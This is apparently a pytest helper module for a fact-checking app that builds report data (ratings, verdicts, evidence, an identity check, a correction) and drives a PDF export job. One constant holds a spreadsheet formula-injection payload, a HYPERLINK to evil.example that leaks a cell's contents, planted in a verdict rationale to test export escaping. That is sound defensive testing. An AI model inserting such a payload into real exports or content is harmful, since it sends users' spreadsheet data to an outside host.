"""Data for the report and export tests, built directly with the models (no review-workflow operations).

``build_report_data(app, article_id)`` adds to the demo article: the rating scale, a reviewer and an editor,
published verdicts (one with a position on the scale, one without, one replacing a superseded revision),
unpublished work (a submitted verdict, a newer draft of a published claim), evidence (one item withdrawn),
an identity check that verifies a named person, and a reviewer's correction.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime

from sqlalchemy import select

from factcheck.articles.models import Article
from factcheck.auth.models import User
from factcheck.auth.operations import create_user
from factcheck.claims.models import Claim
from factcheck.claims.status import refresh_statuses
from factcheck.evidence.models import Evidence
from factcheck.extensions import db
from factcheck.review.models import Rating, Verdict
from factcheck.sources.models import IdentityCheck, Source

# The default scale, as migration 0002 inserts it (tests build the schema with create_all).
DEFAULT_SCALE = [
    ("True", 5, True),
    ("Mostly true", 4, True),
    ("Mixed", 3, True),
    ("Mostly false", 2, True),
    ("False", 1, True),
    ("Misleading", None, True),
    ("Unverifiable", None, False),
]
PUBLISHED_ON = datetime(2026, 11, 20, 14, 30, tzinfo=UTC)
ARTICLE_URL = "https://news.example/atacms-bryansk"
INJECTION = '=HYPERLINK("https://evil.example/?leak="&A1, "click")'


@dataclass(frozen=True)
class ReportData:
    """Ids of what ``build_report_data`` made."""

    article_id: int
    reviewer_email: str
    editor_email: str
    false_claim_id: int  # published "False" (position 1), evidence, the formula-injection rationale
    false_verdict_id: int
    misleading_claim_id: int  # published "Misleading" (no position) + a newer draft (internal only)
    misleading_verdict_id: int
    draft_verdict_id: int
    submitted_claim_id: int  # only a submitted verdict: internal only
    submitted_verdict_id: int
    revised_claim_id: int  # revision 1 superseded, revision 2 published
    superseded_verdict_id: int
    revised_verdict_id: int
    verified_claim_id: int  # unverified_named, its person verified by an identity check -> sourced
    corrected_claim_id: int  # unattributed, corrected by a reviewer to anonymous


def insert_rating_scale() -> None:
    """The default rating scale (what migration 0002 inserts), unless the app fixture already added it."""
    if db.session.scalar(select(Rating.id).limit(1)) is not None:
        return
    for order, (name, position, needs_evidence) in enumerate(DEFAULT_SCALE):
        db.session.add(Rating(name=name, position=position, sort_order=order, requires_evidence=needs_evidence))
    db.session.flush()


def _claim(article_id: int, contains: str) -> Claim:
    claim = db.session.scalar(select(Claim).where(Claim.article_id == article_id, Claim.text.contains(contains)))
    assert claim is not None, contains
    return claim


def _rating(name: str) -> Rating:
    return db.session.scalar(select(Rating).where(Rating.name == name))


def _verdict(claim: Claim, author: User, state: str, rating: str, revision: int = 1, **fields) -> Verdict:
    verdict = Verdict(
        claim_id=claim.id,
        revision=revision,
        state=state,
        rating_id=_rating(rating).id,
        summary=fields.pop("summary", f"{rating}: {claim.text[:40]}")[:75],
        rationale=fields.pop("rationale", "Checked against the record."),
        author_id=author.id,
        **fields,
    )
    db.session.add(verdict)
    db.session.flush()
    return verdict


def build_report_data(app, article_id: int) -> ReportData:
    """Add verdicts, evidence, an identity check and a correction to the demo article; commit."""
    with app.app_context():
        insert_rating_scale()
        reviewer = create_user("fact.checker@example.org", "a long enough password", "reviewer", "Ana Ruiz")
        editor = create_user("the.editor@example.org", "a long enough password", "editor")
        db.session.flush()
        article = db.session.get(Article, article_id)
        article.url = ARTICLE_URL
        article.outlet = "Demo Gazette"
        article.published_on = date(2026, 11, 18)
        published = {"decided_by_id": editor.id, "submitted_at": PUBLISHED_ON, "published_at": PUBLISHED_ON}

        false_claim = _claim(article_id, "confirmed that six missiles")
        false_verdict = _verdict(
            false_claim,
            reviewer,
            "published",
            "False",
            summary="Six missiles were intercepted over Bryansk",
            rationale=INJECTION + " The ministry's own later statement contradicts it.",
            **published,
        )
        db.session.add_all(
            [
                Evidence(
                    claim_id=false_claim.id,
                    url="https://records.example/ministry-statement",
                    title="Ministry statement, 19 November",
                    publisher="Ministry of Defence",
                    stance="refutes",
                    kind="primary",
                    author_id=reviewer.id,
                ),
                Evidence(
                    claim_id=false_claim.id,
                    url="https://records.example/withdrawn",
                    title="Withdrawn wire copy",
                    stance="supports",
                    kind="secondary",
                    author_id=reviewer.id,
                    withdrawn_at=PUBLISHED_ON,
                    withdrawn_by_id=reviewer.id,
                ),
            ]
        )

        misleading_claim = _claim(article_id, "This is a dangerous precedent")
        misleading_verdict = _verdict(
            misleading_claim, reviewer, "published", "Misleading", summary="A “dangerous precedent”", **published
        )
        draft = _verdict(
            misleading_claim, reviewer, "draft", "Mixed", revision=2, rationale="UNPUBLISHED DRAFT RATIONALE"
        )

        submitted_claim = _claim(article_id, "Critics, however, warn")
        submitted = _verdict(
            submitted_claim,
            reviewer,
            "submitted",
            "Mostly false",
            summary="SUBMITTED NOT PUBLISHED",
            submitted_at=PUBLISHED_ON,
        )

        revised_claim = _claim(article_id, "The United Nations has urged")
        superseded = _verdict(revised_claim, reviewer, "superseded", "Mixed", **published)
        revised = _verdict(
            revised_claim,
            reviewer,
            "published",
            "True",
            revision=2,
            summary="The UN urged restraint",
            decided_by_id=editor.id,
            submitted_at=datetime(2026, 11, 22, 9, 0, tzinfo=UTC),
            published_at=datetime(2026, 11, 22, 10, 0, tzinfo=UTC),
        )

        verified_claim = _claim(article_id, "The combination of advanced weaponry")
        kovalenko = db.session.scalar(select(Source).where(Source.name == "Elena Kovalenko"))
        db.session.add(IdentityCheck(source_id=kovalenko.id, result="verified", checked_by_id=reviewer.id))
        kovalenko.identity_status = "verified"

        corrected_claim = _claim(article_id, "This move marks a significant shift")
        corrected_claim.corrected_status = "anonymous"
        corrected_claim.correction_reason = "The agency line comes from an unnamed official."
        corrected_claim.corrected_by_id = reviewer.id
        corrected_claim.corrected_at = PUBLISHED_ON
        # Written directly, not by the operations: the claims' stored effective status follows as they would.
        refresh_statuses(Claim.article_id == article_id)

        db.session.commit()
        return ReportData(
            article_id=article_id,
            reviewer_email=reviewer.email,
            editor_email=editor.email,
            false_claim_id=false_claim.id,
            false_verdict_id=false_verdict.id,
            misleading_claim_id=misleading_claim.id,
            misleading_verdict_id=misleading_verdict.id,
            draft_verdict_id=draft.id,
            submitted_claim_id=submitted_claim.id,
            submitted_verdict_id=submitted.id,
            revised_claim_id=revised_claim.id,
            superseded_verdict_id=superseded.id,
            revised_verdict_id=revised.id,
            verified_claim_id=verified_claim.id,
            corrected_claim_id=corrected_claim.id,
        )


def start_pdf(client, query: str = ""):
    """Press the PDF button for the report ``query`` selects: the response to the POST (a 303 to the job's page)."""
    return client.post(f"/reports/verdicts.pdf{'?' + query if query else ''}")


def pdf_through_its_job(client, query: str = "") -> bytes:
    """The report's PDF as a user gets it: the button, the job's page, the download (jobs run inline in tests)."""
    started = start_pdf(client, query)
    assert started.status_code == 303, started.get_data(as_text=True)
    page = client.get(started.headers["Location"])
    assert page.status_code == 200 and "The PDF is ready." in page.get_data(as_text=True), page.get_data(as_text=True)
    download = client.get(started.headers["Location"] + "/download")
    assert download.status_code == 200 and download.headers["Content-Type"] == "application/pdf"
    assert download.headers["Content-Disposition"].startswith('attachment; filename="verdicts_')
    return download.data
